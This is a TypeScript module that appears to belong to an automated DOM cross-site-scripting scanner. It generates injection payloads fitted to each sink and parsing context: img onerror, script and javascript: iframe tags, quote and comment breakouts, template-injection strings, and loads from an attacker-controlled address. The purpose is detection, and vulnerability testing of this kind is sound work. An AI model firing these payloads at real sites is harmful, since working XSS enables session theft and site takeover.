import { attackerAddress, runAddress } from '../../browser/attacker-response';
import type { SinkSignal } from '../../browser/scan-browser';
import { type ScriptState, scanScript } from '../probing/script-state';

/** Sent behind a mark to see which of its characters come to the sink, also where only the first of each is changed. */
export const SURVEY = `<"'><"'>`;

const image = (call: string) => `<img src=x onerror=${call}>`;
/** Leaves every text and attribute that markup can stand in; the next is for those that take quotation marks away. */
const markup = (call: string): string[] => [
  `'"></textarea></title></style></script>-->${image(call)}`,
  image(call),
  `<script>${call}</script>`,
  `<iframe src="javascript:top.${call}"></iframe>`,
];
const attribute = (call: string): string[] => [`" onmouseover=${call} x="`, `' onmouseover=${call} x='`];
const address = (call: string): string[] => [`javascript:top.${call}`];

const BY_STATE: Readonly<Record<ScriptState, (call: string) => string>> = {
  code: (call) => call,
  single: (call) => `'-${call}-'`,
  double: (call) => `"-${call}-"`,
  template: (call) => `\${${call}}`,
  'line-comment': (call) => `\n${call}//`,
  'block-comment': (call) => `*/${call}/*`,
  regex: (call) => `/-${call}-/`,
};

/** By where the mark was, then the other ways out of a text, since its beginning may be cut off. */
function code({ text, mark }: Pick<SinkSignal, 'text' | 'mark'>, call: string): string[] {
  const state = scanScript(text).stateAt(text.indexOf(mark));
  const others: ScriptState[] = ['single', 'double', 'code'];
  return [...new Set([state, ...others])].map((one) => BY_STATE[one](call));
}

const IN_HANDLER = /\son\w{3,30}\s?=\s?(?:"[^"]{0,300}|'[^']{0,300})$/i;
const IN_ADDRESS = /\s(?:href|src|action|formaction|data)\s?=\s?["']?$/i;
const IN_ATTRIBUTE = /<[a-z][^<>]{0,300}=\s?(?:"[^"]{0,300}|'[^']{0,300}|)$/i;

/** By where in the markup the mark was. @param kept what came through of `SURVEY`; null where that is not known */
function inMarkup(signal: SinkSignal, call: string, kept: string | null): string[] {
  const { text, mark } = signal;
  const before = text.slice(0, text.indexOf(mark));
  const keeps = (character: string) => kept === null || kept.includes(character);
  const handler = IN_HANDLER.exec(before)?.[0];
  const isAttribute = IN_ATTRIBUTE.test(before);
  return [
    ...(handler ? code({ text: `${handler.replace(/^[^=]*=\s?["']/, '')}${mark}`, mark }, call) : []),
    ...(IN_ADDRESS.test(before) ? address(call) : []),
    ...(isAttribute && (keeps('"') || keeps("'")) ? attribute(call) : []),
    ...(keeps('<') ? markup(call) : []),
  ];
}

/** Texts for the source of a signal that call a function of ours where its sink runs them, the likeliest first. */
export function domPayloads(signal: SinkSignal, proof: string, kept: string | null): string[] {
  const call = `${proof}()`;
  switch (signal.sink) {
    case 'html':
      return inMarkup(signal, call, kept);
    case 'srcdoc':
      return kept === null || kept.includes('<') ? markup(call) : [];
    case 'selector':
      return [image(call)];
    case 'code':
    case 'handler':
    case 'script':
      return code(signal, call);
    case 'worker':
      return code(signal, `fetch?.(\`${runAddress(proof)}\`)`);
    case 'script-address':
      return signal.text.startsWith(signal.mark)
        ? [`data:text/javascript,${call}`, attackerAddress(proof)]
        : [
            ...(signal.text.includes('.invalid') ? [attackerAddress(proof)] : []),
            `data:text/javascript,${call}`,
            `${call}//`,
          ];
    case 'request':
      return [attackerAddress(proof)];
    case 'address':
    case 'location':
      return address(call);
  }
}

/** A mark as templates and lists of links take it, where it does nothing as it is. */
export const dressed = (mark: string): string => `[m](${mark}) {{${mark}}} <%=${mark}%>`;

/** The same with a call of ours; none where the mark came to a sink that only shows it. */
export function dressedPayloads({ sink, text, mark }: SinkSignal, proof: string): string[] {
  const call = `${proof}()`;
  if (sink === 'code') return [`{{constructor.constructor('top.${call}')()}}`, `{{${call}}}`, `<%=${call}%>`];
  const before = text.slice(0, text.indexOf(mark));
  const isLink = sink === 'address' || (sink === 'html' && IN_ADDRESS.test(before));
  return isLink ? [`[m](javascript:top.${call})`, `[m](javascript:top.${proof}\`\`)`] : [];
}
